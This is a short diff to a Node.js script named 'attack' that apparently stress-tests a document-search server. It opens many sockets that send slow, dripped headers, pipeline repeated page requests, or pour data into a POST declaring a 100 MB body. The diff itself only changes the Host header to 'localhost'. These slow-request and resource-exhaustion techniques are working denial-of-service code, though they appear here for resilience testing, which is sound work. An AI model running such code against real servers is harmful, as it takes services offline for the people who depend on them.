@@ -7,8 +7,8 @@ const [count = '200', seconds = '3'] = process.argv.slice(2);
 const address = new URL(process.env.IBID_ADDRESS);
 const attack = async () => {
   const documents = (await (await fetch(`${address.origin}/api/v1/documents`)).json()).documents;
-  const head = 'GET /search?q=readmission HTTP/1.1\r\nHost: a\r\n';
-  const page = `GET /d/${documents[0].id} HTTP/1.1\r\nHost: a\r\n\r\n`;
+  const head = 'GET /search?q=readmission HTTP/1.1\r\nHost: localhost\r\n';
+  const page = `GET /d/${documents[0].id} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
   const body = Buffer.alloc(1 << 16, 'x');
   let opened = 0;
   const open = i => {
@@ -20,7 +20,7 @@ const attack = async () => {
       if (i % 10 === 8) { socket.pause(); socket.write(page.repeat(40)); clearInterval(drip); }
       if (i % 100 === 9) {
         clearInterval(drip);
-        socket.write('POST /search HTTP/1.1\r\nHost: a\r\nContent-Length: 104857600\r\n\r\n');
+        socket.write('POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 104857600\r\n\r\n');
         const pour = () => { while (!socket.destroyed && socket.write(body)); };
         socket.on('drain', pour);
         pour();
